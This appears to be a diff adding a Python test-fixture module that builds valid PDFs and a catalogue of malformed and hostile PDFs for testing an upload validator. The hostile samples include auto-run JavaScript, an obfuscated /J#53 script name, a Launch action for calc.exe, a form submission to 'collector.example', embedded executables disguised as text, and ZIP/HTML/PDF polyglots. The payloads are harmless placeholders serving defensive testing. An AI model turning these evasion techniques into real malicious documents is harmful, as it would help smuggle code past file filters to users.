@@ -1,0 +1,261 @@
+"""Files for tests: good PDFs from three makers, bad ones made from them, pictures, and stored rows."""
+
+import fcntl
+import io
+import shutil
+import subprocess
+import tempfile
+import zipfile
+from collections.abc import Callable
+from functools import cache
+from pathlib import Path
+
+import pikepdf
+import PIL.Image
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from parley.accounts.models import User
+from parley.companies.models import Company
+from parley.files.actions import keep_file
+from parley.files.models import StoredFile
+
+PAGE = """<!doctype html><meta charset="utf-8"><title>Certificate</title>
+<h1>ISO 22000</h1><p>Alpine Dairy AG, Bern. Geprüft: Käse, smør.</p><a href="https://alpine.example/">Alpine</a>"""
+
+
+def real_pdf(pages: int = 1, *, text: str = "Certificate") -> bytes:
+    """A small PDF with readable pages, made in a millisecond. `text` makes its content, and so its hash, its own."""
+    document = pikepdf.new()
+    font = document.make_indirect(
+        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
+    )
+    for number in range(1, pages + 1):
+        page = document.add_blank_page(page_size=(595, 842))
+        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
+        shown = pikepdf.String(f"{text}, page {number}").unparse()
+        page.Contents = document.make_stream(b"BT /F1 24 Tf 72 700 Td " + shown + b" Tj ET")
+    return _saved(document)
+
+
+def upload(content: bytes | None = None, name: str = "certificate.pdf") -> SimpleUploadedFile:
+    """What a test client or a form is given as an uploaded file."""
+    return SimpleUploadedFile(name, real_pdf() if content is None else content)
+
+
+def stored_file(
+    company: Company, by: User | None = None, content: bytes | None = None, name: str = "certificate.pdf"
+) -> StoredFile:
+    """A kept file; the caller acts for `company` already."""
+    return keep_file(company=company, by=by, upload=upload(content, name))
+
+
+def picture(kind: str = "png", size: tuple[int, int] = (64, 48)) -> bytes:
+    """A PNG, JPEG or WebP picture, or a GIF or BMP, which are not accepted."""
+    target = io.BytesIO()
+    PIL.Image.effect_noise(size, 60).convert("RGB").save(target, kind)
+    return target.getvalue()
+
+
+def broken_pdf(kind: str) -> bytes:
+    """A bad file made from a good PDF. `sorted(BROKEN)` lists the kinds."""
+    return BROKEN[kind]()
+
+
+@cache
+def chromium_pdf() -> bytes:
+    """A PDF printed by Chromium."""
+    return _made_once("chromium.pdf", _print_with_chromium)
+
+
+@cache
+def libreoffice_pdf() -> bytes:
+    """A PDF exported by LibreOffice."""
+    return _made_once("libreoffice.pdf", _export_with_libreoffice)
+
+
+def shipped_pdfs() -> list[Path]:
+    """PDFs that came with installed packages, made by TeX, FOP and others."""
+    folders = (Path("/usr/share/doc"), Path("/usr/lib/libreoffice/share"), Path("/usr/share/cups"))
+    return sorted(path for folder in folders if folder.is_dir() for path in folder.rglob("*.pdf") if path.is_file())
+
+
+def _made_once(name: str, make: Callable[[Path], None]) -> bytes:
+    """The file `name`, made by the first test process that asks; the others wait for it."""
+    folder = Path(tempfile.gettempdir()) / "parley-test-files"
+    folder.mkdir(exist_ok=True)
+    made = folder / name
+    with (folder / f"{name}.lock").open("w") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        if not made.exists():
+            with tempfile.TemporaryDirectory(dir=folder) as room:
+                source = Path(room) / "page.html"
+                source.write_text(PAGE)
+                make(source)
+                source.with_suffix(".pdf").replace(made)
+    return made.read_bytes()
+
+
+def _print_with_chromium(source: Path) -> None:
+    browser = shutil.which("chromium") or "chromium"
+    options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={source.parent / 'profile'}"]
+    target = f"--print-to-pdf={source.with_suffix('.pdf')}"
+    subprocess.run([browser, *options, target, source.as_uri()], check=True, capture_output=True, timeout=90)
+
+
+def _export_with_libreoffice(source: Path) -> None:
+    office = shutil.which("soffice") or "soffice"
+    profile = f"-env:UserInstallation={(source.parent / 'profile').as_uri()}"
+    convert = ["--headless", "--convert-to", "pdf", "--outdir", str(source.parent), str(source)]
+    subprocess.run([office, profile, *convert], check=True, capture_output=True, timeout=180)
+
+
+def _saved(document: pikepdf.Pdf, **options: object) -> bytes:
+    target = io.BytesIO()
+    document.save(target, **options)
+    return target.getvalue()
+
+
+def _changed(change: Callable[[pikepdf.Pdf], None], content: bytes | None = None, **options: object) -> bytes:
+    with pikepdf.open(io.BytesIO(content or real_pdf(3))) as document:
+        change(document)
+        return _saved(document, **options)
+
+
+def _action(**entries: object) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **entries)
+
+
+def _opens_with(**entries: object) -> bytes:
+    def change(document: pikepdf.Pdf) -> None:
+        document.Root.OpenAction = _action(**entries)
+
+    return _changed(change)
+
+
+def _named_script(document: pikepdf.Pdf) -> None:
+    script = document.make_indirect(_action(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert(1)")))
+    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))
+
+
+def _page_script(document: pikepdf.Pdf) -> None:
+    document.pages[1].obj.AA = pikepdf.Dictionary(O=_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
+
+
+def _script_link(document: pikepdf.Pdf) -> None:
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[0, 0, 100, 100],
+        A=_action(S=pikepdf.Name.URI, URI="JavaScript:alert(document.domain)"),
+    )
+    document.pages[0].obj.Annots = pikepdf.Array([link])
+
+
+def _xfa(document: pikepdf.Pdf) -> None:
+    form = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=form)
+
+
+def _rich_media(document: pikepdf.Pdf) -> None:
+    media = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
+    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(media)])
+
+
+def _enclosing(name: str, content: bytes) -> bytes:
+    def change(document: pikepdf.Pdf) -> None:
+        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
+
+    return _changed(change)
+
+
+def invoice_pdf() -> bytes:
+    """A good PDF with XML enclosed, as electronic invoices have."""
+    return _enclosing("factur-x.xml", b"<?xml version='1.0'?><Invoice/>")
+
+
+def updated_pdf() -> bytes:
+    """A good PDF with a later revision appended to it, as signing and filling in forms do."""
+    first = _changed(lambda document: None, object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    with pikepdf.open(io.BytesIO(first)) as document:
+        root, count = document.trailer.Root.objgen[0], int(document.trailer.Size)
+        pages = document.Root.Pages.objgen[0]
+    place = len(first)
+    update = b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /Lang (de) >>\nendobj\n" % (root, pages)
+    table = b"xref\n%d 1\n%010d 00000 n \n" % (root, place)
+    previous = first[first.rindex(b"startxref") :].split()[1]
+    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %s >>\n" % (count, root, previous)
+    return first + update + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (place + len(update))
+
+
+def _zip() -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        archive.writestr("setup.exe", b"MZ" + bytes(100))
+    return target.getvalue()
+
+
+def _zip_that_ends_as_pdf() -> bytes:
+    """A PDF followed by an archive whose comment is a PDF's end."""
+    good = real_pdf()
+    end = good[good.rindex(b"startxref") :]
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        archive.writestr("setup.exe", b"MZ" + bytes(100))
+        archive.comment = end
+    return good + target.getvalue()
+
+
+def _without_bytes_in_the_middle() -> bytes:
+    content = chromium_pdf()
+    return content[: len(content) // 2] + content[len(content) // 2 + 40 :]
+
+
+def _with_noise_in_contents() -> bytes:
+    """Whole in its structure, but what a page shows cannot be decoded."""
+    content = bytearray(_changed(lambda document: None, compress_streams=True, recompress_flate=True))
+    start = content.index(b"stream\n", content.index(b"/FlateDecode")) + 7
+    content[start + 4 : start + 20] = b"\xff" * 16
+    return bytes(content)
+
+
+def _encrypted(user: str) -> bytes:
+    return _changed(lambda document: None, encryption=pikepdf.Encryption(owner="owner", user=user, R=6))
+
+
+BROKEN: dict[str, Callable[[], bytes]] = {
+    "empty": lambda: b"",
+    "one byte": lambda: b"%",
+    "only a header": lambda: b"%PDF-1.7\n",
+    "renamed PNG": picture,
+    "renamed HTML": lambda: b"<!doctype html><script>alert(1)</script>",
+    "renamed zip": _zip,
+    "text": lambda: b"This is not a PDF. %%EOF",
+    "cut in half": lambda: chromium_pdf()[: len(chromium_pdf()) // 2],
+    "cut near the end": lambda: chromium_pdf()[:-30],
+    "cut update": lambda: updated_pdf()[:-20],
+    "damaged in the middle": _without_bytes_in_the_middle,
+    "damaged contents": _with_noise_in_contents,
+    "without pages": lambda: _saved(pikepdf.new()),
+    "encrypted": lambda: _encrypted("secret"),
+    "encrypted against changes": lambda: _encrypted(""),
+    "script on opening": lambda: _opens_with(S=pikepdf.Name.JavaScript, JS="app.alert('hello')"),
+    "script in a hidden name": lambda: _opens_with(S=pikepdf.Name.JavaScript, JS="x").replace(b"/JS", b"/J#53"),
+    "named script": lambda: _changed(_named_script),
+    "script of a page, packed": lambda: _changed(
+        _page_script, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
+    ),
+    "script as a link": lambda: _changed(_script_link),
+    "launches a program": lambda: _opens_with(S=pikepdf.Name.Launch, F="calc.exe"),
+    "submits a form": lambda: _opens_with(S=pikepdf.Name.SubmitForm, F="https://collector.example/"),
+    "XFA form": lambda: _changed(_xfa),
+    "rich media": lambda: _changed(_rich_media),
+    "program enclosed": lambda: _enclosing("setup.exe", b"MZ" + bytes(60)),
+    "program enclosed as text": lambda: _enclosing("readme.txt", b"MZ" + bytes(60)),
+    "zip appended": lambda: chromium_pdf() + _zip(),
+    "zip prepended": lambda: _zip() + real_pdf(),
+    "zip that ends as a PDF": _zip_that_ends_as_pdf,
+    "HTML appended": lambda: real_pdf() + b"<script>alert(1)</script>",
+    "HTML prepended": lambda: b"<html><!--" + real_pdf(),
+    "tar": lambda: real_pdf()[:200].ljust(257, b" ") + b"ustar\x0000" + real_pdf(),
+    "second PDF's end after foreign bytes": lambda: real_pdf() + b"<html>" + real_pdf(text="Other"),
+}
